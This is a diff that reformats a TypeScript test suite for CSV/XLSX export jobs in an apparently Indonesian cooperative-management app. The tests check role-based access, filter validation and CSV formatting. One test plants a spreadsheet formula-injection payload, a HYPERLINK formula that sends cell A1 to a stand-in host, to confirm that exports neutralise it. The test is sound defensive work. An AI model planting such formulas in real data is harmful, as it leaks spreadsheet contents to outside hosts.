@@ -44,10 +44,16 @@ describe.each(DB_KINDS)('list exports as background jobs on %s', { timeout: 120_
     return rows;
   }
 
-  const csvLines = (text: string) => text.replace(/^\uFEFF/, '').trim().split('\r\n');
+  const csvLines = (text: string) =>
+    text
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split('\r\n');
 
   it('exports the filtered cooperative list as XLSX with progress and an Indonesian file name', async () => {
-    const listed = (await api.req({ method: 'GET', url: `/api/v1/cooperatives?district=${TIRIS}&pageSize=1`, cookie: petugas })).json().total as number;
+    const listed = (
+      await api.req({ method: 'GET', url: `/api/v1/cooperatives?district=${TIRIS}&pageSize=1`, cookie: petugas })
+    ).json().total as number;
     expect(listed).toBeGreaterThan(5);
     const res = await start(petugas, { list: 'cooperatives', format: 'xlsx', filters: { district: TIRIS } });
     expect(res.statusCode).toBe(202);
@@ -79,7 +85,11 @@ describe.each(DB_KINDS)('list exports as background jobs on %s', { timeout: 120_
     const byAdmin = await api.req({ method: 'GET', url: `/api/v1/jobs/${id}/download`, cookie: admin });
     expect(byAdmin.statusCode).toBe(200);
     expect(byAdmin.headers['content-type']).toMatch(/text\/csv/);
-    const unknown = await api.req({ method: 'GET', url: '/api/v1/jobs/00000000-0000-4000-8000-000000000000/download', cookie: admin });
+    const unknown = await api.req({
+      method: 'GET',
+      url: '/api/v1/jobs/00000000-0000-4000-8000-000000000000/download',
+      cookie: admin,
+    });
     expect(unknown.statusCode).toBe(404);
   });
 
@@ -94,16 +104,21 @@ describe.each(DB_KINDS)('list exports as background jobs on %s', { timeout: 120_
     expect(lines.slice(1).map((l) => l.split(';')[0])).toEqual([dewiName]);
 
     // Visits with a district filter that is not its own still stay inside its cooperative.
-    const allVisits = (await api.req({ method: 'GET', url: '/api/v1/visits?pageSize=1', cookie: admin })).json().total as number;
+    const allVisits = (await api.req({ method: 'GET', url: '/api/v1/visits?pageSize=1', cookie: admin })).json()
+      .total as number;
     const visits = await start(koperasi, { list: 'visits', format: 'csv' });
     const vdone = await finished(koperasi, visits.json().id);
-    const vlines = csvLines((await api.req({ method: 'GET', url: `/api/v1/jobs/${vdone.id}/download`, cookie: koperasi })).body).slice(1);
+    const vlines = csvLines(
+      (await api.req({ method: 'GET', url: `/api/v1/jobs/${vdone.id}/download`, cookie: koperasi })).body,
+    ).slice(1);
     expect(vlines.length).toBeLessThan(allVisits);
     // Column 4 is Koperasi.
     for (const l of vlines) expect(l.split(';')[3]).toBe(dewiName);
 
     // Another cooperative's id as a filter is refused outright.
-    const other = (await api.req({ method: 'GET', url: '/api/v1/cooperatives?group=KUD&pageSize=1', cookie: admin })).json().items[0].id;
+    const other = (
+      await api.req({ method: 'GET', url: '/api/v1/cooperatives?group=KUD&pageSize=1', cookie: admin })
+    ).json().items[0].id;
     const foreign = await start(koperasi, { list: 'followUps', format: 'xlsx', filters: { cooperativeId: other } });
     expect([403, 404]).toContain(foreign.statusCode);
     // The audit log is not for koperasi (nor petugas): refused at once, no job.
@@ -112,21 +127,38 @@ describe.each(DB_KINDS)('list exports as background jobs on %s', { timeout: 120_
   });
 
   it('exports the audit log for pimpinan, and assessments and concerns as CSV', async () => {
-    const total = (await api.req({ method: 'GET', url: '/api/v1/audit?pageSize=1&entityType=cooperative', cookie: pimpinan })).json().total as number;
-    const id = (await start(pimpinan, { list: 'audit', format: 'xlsx', filters: { entityType: 'cooperative' } })).json().id;
+    const total = (
+      await api.req({ method: 'GET', url: '/api/v1/audit?pageSize=1&entityType=cooperative', cookie: pimpinan })
+    ).json().total as number;
+    const id = (await start(pimpinan, { list: 'audit', format: 'xlsx', filters: { entityType: 'cooperative' } })).json()
+      .id;
     const job = await finished(pimpinan, id);
     expect(job).toMatchObject({ status: 'done', total });
     expect(job.result.filename).toMatch(/^log-audit-/);
-    const rows = await sheetRows((await api.req({ method: 'GET', url: `/api/v1/jobs/${id}/download`, cookie: pimpinan })).rawPayload);
+    const rows = await sheetRows(
+      (await api.req({ method: 'GET', url: `/api/v1/jobs/${id}/download`, cookie: pimpinan })).rawPayload,
+    );
     expect(rows).toHaveLength(total);
 
-    const finals = (await api.req({ method: 'GET', url: '/api/v1/assessments?status=FINAL&pageSize=1', cookie: admin })).json().total as number;
-    const a = await finished(admin, (await start(admin, { list: 'assessments', format: 'csv', filters: { status: 'FINAL' } })).json().id);
-    const alines = csvLines((await api.req({ method: 'GET', url: `/api/v1/jobs/${a.id}/download`, cookie: admin })).body);
+    const finals = (
+      await api.req({ method: 'GET', url: '/api/v1/assessments?status=FINAL&pageSize=1', cookie: admin })
+    ).json().total as number;
+    const a = await finished(
+      admin,
+      (await start(admin, { list: 'assessments', format: 'csv', filters: { status: 'FINAL' } })).json().id,
+    );
+    const alines = csvLines(
+      (await api.req({ method: 'GET', url: `/api/v1/jobs/${a.id}/download`, cookie: admin })).body,
+    );
     expect(alines).toHaveLength(finals + 1);
 
-    const open = (await api.req({ method: 'GET', url: '/api/v1/concerns?status=open&pageSize=1', cookie: admin })).json().total as number;
-    const c = await finished(admin, (await start(admin, { list: 'concerns', format: 'csv', filters: { status: 'open' } })).json().id);
+    const open = (
+      await api.req({ method: 'GET', url: '/api/v1/concerns?status=open&pageSize=1', cookie: admin })
+    ).json().total as number;
+    const c = await finished(
+      admin,
+      (await start(admin, { list: 'concerns', format: 'csv', filters: { status: 'open' } })).json().id,
+    );
     expect(c).toMatchObject({ status: 'done', total: open, result: { rows: open } });
   });
 
@@ -143,7 +175,14 @@ describe.each(DB_KINDS)('list exports as background jobs on %s', { timeout: 120_
     const unknownFilter = await start(admin, { list: 'followUps', format: 'csv', filters: { warna: 'merah' } });
     expect(unknownFilter.statusCode).toBe(400);
     expect(unknownFilter.json().error.fields['filters.warna']).toMatch(/tidak dikenal/);
-    for (const body of [null, 'x', [], { list: 'visits' }, { list: 'visits', format: 'csv', filters: 'x' }, { list: 'visits', format: 'csv', filters: { from: { a: 1 } } }]) {
+    for (const body of [
+      null,
+      'x',
+      [],
+      { list: 'visits' },
+      { list: 'visits', format: 'csv', filters: 'x' },
+      { list: 'visits', format: 'csv', filters: { from: { a: 1 } } },
+    ]) {
       const res = await start(admin, body);
       expect(res.statusCode, JSON.stringify(body)).toBe(400);
     }
@@ -151,7 +190,9 @@ describe.each(DB_KINDS)('list exports as background jobs on %s', { timeout: 120_
   it('neutralises formulas in CSV, writes decimal commas next to the semicolon, and keeps NIK as text', async () => {
     const planted = '=HYPERLINK("http://contoh.invalid/?d="&A1;"Klik di sini")';
     const made = await api.req({
-      method: 'POST', url: '/api/v1/concerns', cookie: koperasi,
+      method: 'POST',
+      url: '/api/v1/concerns',
+      cookie: koperasi,
       body: { cooperativeId: DEWI_ID, kind: 'KELUHAN', topic: 'lainnya', description: planted, raisedBy: '@pengurus' },
     });
     expect(made.statusCode, made.body).toBe(201);
@@ -163,8 +204,13 @@ describe.each(DB_KINDS)('list exports as background jobs on %s', { timeout: 120_
 
     const dewi = (await api.req({ method: 'GET', url: `/api/v1/cooperatives/${DEWI_ID}`, cookie: admin })).json();
     expect(dewi.latitude).not.toBe(Math.round(dewi.latitude));
-    const k = await finished(admin, (await start(admin, { list: 'cooperatives', format: 'csv', filters: { search: 'dewi rengganis' } })).json().id);
-    const lines = csvLines((await api.req({ method: 'GET', url: `/api/v1/jobs/${k.id}/download`, cookie: admin })).body);
+    const k = await finished(
+      admin,
+      (await start(admin, { list: 'cooperatives', format: 'csv', filters: { search: 'dewi rengganis' } })).json().id,
+    );
+    const lines = csvLines(
+      (await api.req({ method: 'GET', url: `/api/v1/jobs/${k.id}/download`, cookie: admin })).body,
+    );
     const header = lines[0]!.split(';');
     const row = lines[1]!.split(';');
     expect(row).toHaveLength(header.length);
